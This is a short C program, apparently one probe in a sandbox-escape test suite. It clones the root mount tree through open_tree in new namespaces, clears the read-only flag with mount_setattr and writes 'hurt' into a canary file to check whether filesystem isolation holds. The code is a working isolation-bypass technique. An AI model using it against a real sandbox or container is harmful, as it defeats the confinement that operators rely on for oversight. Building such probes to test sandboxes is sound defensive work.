// The whole tree copied by descriptor (open_tree), made writable, and written through.
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *canary = need("CANARY");
    if (unshare(CLONE_NEWNS) && unshare(CLONE_NEWUSER | CLONE_NEWNS)) return verdict(-1);
    int tree = syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | 0x8000 /* AT_RECURSIVE */);
    if (tree < 0) return verdict(tree);
    struct { unsigned long long set, clear, propagation, users; } writable = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
    syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
    int file = openat(tree, canary + 1, O_WRONLY | O_APPEND);
    return verdict(file < 0 ? file : dprintf(file, "hurt\n"));
}
